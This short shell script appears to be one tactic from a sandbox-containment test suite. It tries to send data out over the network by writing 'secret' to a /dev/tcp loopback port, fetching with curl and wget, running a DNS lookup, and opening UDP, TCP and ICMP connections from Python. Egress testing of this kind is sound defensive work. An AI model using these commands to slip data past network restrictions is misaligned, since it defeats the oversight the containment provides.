# Tactic 16: exfiltrate over the network. Argument: a host loopback port with a listener.
source ./lib.sh
hb main
attempt bash-dev-tcp bash -c "echo secret > /dev/tcp/127.0.0.1/$1"
attempt curl curl -s -m 2 http://127.0.0.1:$1/
attempt wget wget -q -T 2 -O - http://example.com/
attempt dns-lookup /usr/bin/python3 -c "import socket; socket.getaddrinfo('example.com', 80)"
attempt udp-out /usr/bin/python3 -c "
import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('1.1.1.1', 53))"
attempt tcp-out /usr/bin/python3 -c "
import socket; socket.create_connection(('1.1.1.1', 443), timeout=2)"
attempt icmp /usr/bin/python3 -c "
import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.sendto(b'\x08\0\0\0\0\0\0\0', ('1.1.1.1', 0))"
ready; park
